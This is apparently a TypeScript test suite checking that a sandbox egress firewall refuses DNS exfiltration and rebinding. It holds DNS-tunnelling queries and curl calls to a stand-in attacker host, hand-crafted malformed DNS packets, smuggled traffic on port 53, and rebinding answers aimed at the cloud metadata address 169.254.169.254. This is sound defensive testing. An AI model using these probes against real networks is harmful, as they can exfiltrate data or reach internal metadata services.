/** DNS against a real server: which questions leave, what may be answered, and what a name may not come to mean. */
import { describe, expect, it } from 'vitest';
import { ADDRESSES, ATTACKER_RESOLVER, manyAddress, PORTS, RESOLVER } from './network.ts';
import { countArrivals, useBox, useNetwork } from './suite.ts';

const POLICY = `
default: Deny
allow:
- http: {hosts: [allowed.test, alias.test, detour.test, many.test, db.corp.test, a.sub.test, "*.wild.test"]}
- http: {hosts: [rebind-metadata.test, rebind-loopback.test, rebind-private.test, rebind-mapped.test, rebind-mixed.test]}
- dns: {names: [_http._tcp.allowed.test], types: [SRV]}
- dns: {names: [txt.allowed.test], types: [TXT]}
`;

const { origin, attacker, metadata, private: privately } = ADDRESSES;
const network = useNetwork();
const box = useBox(network, { user: 'user', policy: POLICY });

const dig = async (words: string): Promise<string> => (await box().run(`dig +tries=1 +time=3 ${words}`)).stdout;
const short = async (words: string): Promise<readonly string[]> =>
  (await dig(`+short ${words}`)).split('\n').filter((line) => line !== '');
const statusOf = (answer: string): string => /status: (\w+)/.exec(answer)?.[1] ?? 'none';

describe('a question that no rule needs', () => {
  const servers = [
    '',
    `@${RESOLVER[4]}`,
    `@${RESOLVER[6]}`,
    `@${ATTACKER_RESOLVER}`,
    `@${attacker[4]}`,
    `@${attacker[6]}`,
  ];
  const ways = servers.flatMap((server) => ['+notcp', '+tcp'].map((transport) => `${server} ${transport}`.trim())); // prettier-ignore

  it.each(ways)('stays here, asked with: dig %s', async (way) => {
    const answer = await dig(`${way} secret-${ways.indexOf(way)}.attacker.test`);
    expect(statusOf(answer)).toBe('REFUSED');
    expect(answer).toMatch(/EDE: 18 \(Prohibited\)/);
    await box().record({ verdict: 'denied', class: 'dns', tags: { 'dns.name': `secret-${ways.indexOf(way)}.attacker.test`, 'dns.type': 'A' } }); // prettier-ignore
  });

  it.each(['TXT', 'NULL', 'MX', 'SRV', 'CNAME', 'ANY', 'SOA', 'NS', 'HTTPS', 'TYPE65280', 'CAA', 'KEY'])(
    'stays here, of type %s',
    async (type) => {
      expect(statusOf(await dig(`secret.tunnel.attacker.test ${type}`))).toBe('REFUSED');
    },
  );

  it.each(['TXT', 'NULL', 'MX', 'ANY', 'TYPE65280'])('stays here, of type %s for an allowed name', async (type) => {
    expect(statusOf(await dig(`allowed.test ${type}`))).toBe('REFUSED');
    expect(network().queries()).not.toContain(`allowed.test ${type}`);
  });

  it('stays here, whatever the case of its letters', async () => {
    await dig('SeCrEt.Attacker.TEST');
    await dig('secret.allowed.test');
    await dig(`${'secret'.repeat(9)}.${'x'.repeat(60)}.attacker.test`);
  });

  it('is asked by no program’s own resolver', async () => {
    await box().run('getent ahosts secret-libc.attacker.test; curl -m 5 http://secret-curl.attacker.test/');
    await box().record({ verdict: 'denied', tags: { 'dns.name': 'secret-curl.attacker.test' } });
  });

  it('never arrived at any server', async () => {
    const asked = [...network().queries(), ...network().attackerQueries()].filter((name) => /secret/i.test(name));
    expect(asked).toEqual([]);
    const elsewhere = [ATTACKER_RESOLVER, attacker[4], attacker[6]];
    const packets = [...(await network().packets()).keys()];
    expect(packets.filter((where) => elsewhere.some((address) => where.startsWith(`${address} `)))).toEqual([]);
  });

  it.each([ATTACKER_RESOLVER, attacker[6]])('nor is port 53 of %s a way for something else', async (address) => {
    const arrived = await countArrivals(network(), `${address} tcp 53`);
    const said = await box().python(`
for sent in (b'GET / HTTP/1.1\\r\\nHost: secret\\r\\n\\r\\n', b'SSH-2.0-secret\\r\\n', b'\\0\\4secret', b''):
    print(dial('${address}', 53, sent, timeout=0.3))
`);
    expect(said).not.toContain('arrived');
    expect(await arrived()).toBe(0);
  });

  it('sent to another port is no DNS but a datagram, and denied', async () => {
    const arrived = await countArrivals(network(), 'udp 5353');
    await dig(`-p 5353 @${attacker[4]} allowed.test`);
    await box().record({ verdict: 'denied', class: 'udp', destination: { address: attacker[4], port: 5353 } });
    expect(await arrived()).toBe(0);
  });

  it.each([attacker[4], attacker[6], RESOLVER[4], RESOLVER[6]])('over TLS to %s is denied', async (address) => {
    const arrived = await countArrivals(network(), `${address} tcp 853`);
    await box().run(
      `timeout 5 openssl s_client -connect '${address.includes(':') ? `[${address}]` : address}:853' </dev/null`,
    );
    await box().record({ verdict: 'denied', class: 'tls', destination: { address, port: 853 } });
    expect(await arrived()).toBe(0);
  });
});

describe('what is no question', () => {
  const header = (flags: string, counts = '\\0\\1\\0\\0\\0\\0\\0\\0'): string => `b'\\x12\\x34${flags}${counts}'`;
  const question = `b'\\7allowed\\4test\\0\\0\\1\\0\\1'`;
  const cases: readonly (readonly [string, string])[] = [
    ['two questions', `${header('\\1\\0', '\\0\\2\\0\\0\\0\\0\\0\\0')} + ${question} + b'\\6secret\\4test\\0\\0\\1\\0\\1'`],
    ['a dot in a label', `${header('\\1\\0')} + b'\\x0csecret.allow\\2ed\\4test\\0\\0\\1\\0\\1'`],
    ['NUL in a label', `${header('\\1\\0')} + b'\\x0fsecret\\0.allowed\\4test\\0\\0\\1\\0\\1'`],
    ['a pointer in the question', `${header('\\1\\0')} + b'\\6secret\\xc0\\x0c\\0\\1\\0\\1'`],
    ['class CHAOS', `${header('\\1\\0')} + b'\\6secret\\4test\\0\\0\\x10\\0\\3'`],
    ['an update', `${header('\\x28\\0')} + ${question}`],
    ['an answer', `${header('\\x81\\x80')} + ${question}`],
    ['records in the question', `${header('\\1\\0', '\\0\\1\\0\\1\\0\\0\\0\\0')} + ${question} + b'\\6secret\\0\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\0'`],
    ['bytes after the question', `${header('\\1\\0')} + ${question} + b'secret'`],
    ['a question cut off', `${header('\\1\\0')} + b'\\7allowed\\4te'`],
  ]; // prettier-ignore

  it.each(cases)('%s is answered as malformed, and asked of nobody', async (_, bytes) => {
    await box().forget();
    const before = network().queries().length;
    const said = await box().python(`print(datagram('${RESOLVER[4]}', 53, ${bytes}))`);
    expect(said).toMatch(/^(ok b'\\x124\\x[89a-f]\d\\x[08]1|TimeoutError)/); // FORMERR, or nothing
    await box().record({ verdict: 'denied', class: 'dns', doubt: 'malformed' });
    expect(network().queries()).toHaveLength(before);
  });
});

describe('search domains', () => {
  it('are tried to the end: what only a search domain made does not exist', async () => {
    expect(statusOf(await dig('nosuch.corp.test'))).toBe('NXDOMAIN');
    expect(statusOf(await dig('nosuch.test'))).toBe('REFUSED');
    const { stdout } = await box().run('getent ahostsv4 db; getent ahostsv4 a');
    expect(stdout).toMatch(/^198\.18\.10\.1 +STREAM db\.corp\.test$/m);
    expect(stdout).toMatch(/^198\.18\.10\.1 +STREAM a\.sub\.test$/m);
    expect(network().queries()).not.toContain('a.corp.test A');
  });
});

describe('an answer', () => {
  it('has the records that were asked for, by UDP and TCP', async () => {
    expect(await short('allowed.test A')).toEqual([origin[4]]);
    expect(await short('allowed.test AAAA +tcp')).toEqual([origin[6]]);
    expect(await short('_http._tcp.allowed.test SRV')).toEqual(['0 0 80 allowed.test.']);
    expect(await short('x.wild.test A')).toEqual([origin[4]]);
    expect(statusOf(await dig('nosuch.wild.test MX'))).toBe('REFUSED');
  });

  it('follows a chain of names, and binds its addresses to the asked name alone', async () => {
    expect(await short('alias.test A')).toEqual(['alias-of-alias.test.', 'allowed.test.', origin[4]]);
    const { stdout } = await box().run('curl -sS http://alias.test/chain');
    expect(stdout).toContain('GET /chain');
    expect(await short('detour.test A')).toContain(attacker[4]);
    const { stdout: other } = await box().run(`curl -sS --resolve attacker.test:80:${attacker[4]} http://attacker.test/`);
    expect(other).toContain('Denied by egress policy');
    expect(network().http().filter(({ address }) => address === attacker[4])).toEqual([]);
  }); // prettier-ignore

  it('offers no encrypted ClientHello', async () => {
    const [record = ''] = await short('allowed.test HTTPS');
    expect(record).toMatch(/^1 \. alpn="h2" ipv4hint=/);
    expect(record).not.toContain('ech');
    expect(network().queries()).toContain('allowed.test HTTPS');
  });

  it('may have many addresses, each of them then allowed', async () => {
    const addresses = await short('many.test A');
    expect(addresses).toHaveLength(40);
    const last = manyAddress(39);
    const { stdout } = await box().run(`curl -sS --resolve many.test:80:${last} http://many.test/last`);
    expect(stdout).toContain('GET /last');
    expect(network().http()).toContainEqual(expect.objectContaining({ address: last, target: '/last' }));
  });

  it('to the question who an address is comes from what was asked before', async () => {
    await short('allowed.test A');
    expect(await short(`-x ${origin[4]}`)).toHaveLength(1);
    expect(statusOf(await dig(`-x ${attacker[6]}`))).toBe('NXDOMAIN');
    expect(network().queries().filter((name) => name.includes('arpa'))).toEqual([]); // prettier-ignore
  });
});

describe('a name that answers with', () => {
  const ask = (name: string, address: string): string =>
    `curl -sS -m 5 --resolve '${name}:80:${address.includes(':') ? `[${address}]` : address}' http://${name}/rebound`;

  it.each([
    ['a metadata address', 'rebind-metadata.test', metadata[4], 'A'],
    ['a metadata address', 'rebind-metadata.test', metadata[6], 'AAAA'],
    ['a metadata address, under a wildcard', 'rebind-metadata.wild.test', metadata[4], 'A'],
    ['loopback', 'rebind-loopback.test', '127.0.0.1', 'A'],
    ['loopback', 'rebind-loopback.test', '::1', 'AAAA'],
    ['a private address, under a wildcard', 'rebind-private.wild.test', privately[4], 'A'],
    ['a private address, under a wildcard', 'rebind-private.wild.test', privately[6], 'AAAA'],
    ['a metadata address in IPv6', 'rebind-mapped.test', '::ffff:169.254.169.254', 'AAAA'],
  ])('%s: the application does not see it, and cannot reach it (%s, %s)', async (_, name, address, type) => {
    const arrived = await countArrivals(network(), `${address.replace('::ffff:', '')} tcp 80`);
    expect(await short(`${name} ${type}`)).toEqual([]);
    const { stdout } = await box().run(ask(name, address));
    expect(stdout).not.toContain('arrived');
    if (!['127.0.0.1', '::1'].includes(address)) {
      await box().record({ verdict: 'denied', class: 'http', destination: { requestedName: name } });
    }
    expect(await arrived()).toBe(0);
  });

  it('a private address is believed where a rule names it exactly', async () => {
    expect(await short('rebind-private.test A')).toEqual([privately[4]]);
    const { stdout } = await box().run('curl -sS -4 http://rebind-private.test/private');
    expect(stdout).toContain('GET /private');
    expect(network().http()).toContainEqual(expect.objectContaining({ address: privately[4], target: '/private' }));
  });

  it('a good and a bad address keeps the good one', async () => {
    expect(await short('rebind-mixed.test A')).toEqual([origin[4]]);
  });
});

describe('the resolver’s own machine', () => {
  it.each([
    ['tcp', PORTS.echo],
    ['udp', PORTS.udp],
    ['tcp', PORTS.http],
  ] as const)('is no way out by %s port %s', async (protocol, port) => {
    const arrived = await countArrivals(network(), `${RESOLVER[4]} ${protocol} ${port}`);
    const call = protocol === 'tcp' ? 'dial' : 'datagram';
    await box().python(`print(${call}('${RESOLVER[4]}', ${port}, b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))`);
    await box().record({ verdict: 'denied', destination: { address: RESOLVER[4], port } });
    expect(await arrived()).toBe(0);
  });
});

it('resolv.conf leads to the firewall, keeps its search list, and cannot be written', async () => {
  const { stdout, stderr } = await box().run('cat /etc/resolv.conf; echo nameserver 192.0.2.1 >/etc/resolv.conf');
  expect(stdout).toMatch(/^nameserver 192\.0\.0\.53$/m);
  expect(stdout).toMatch(/^search corp\.test sub\.test$/m);
  expect(stderr).toMatch(/Permission denied|Read-only/);
});
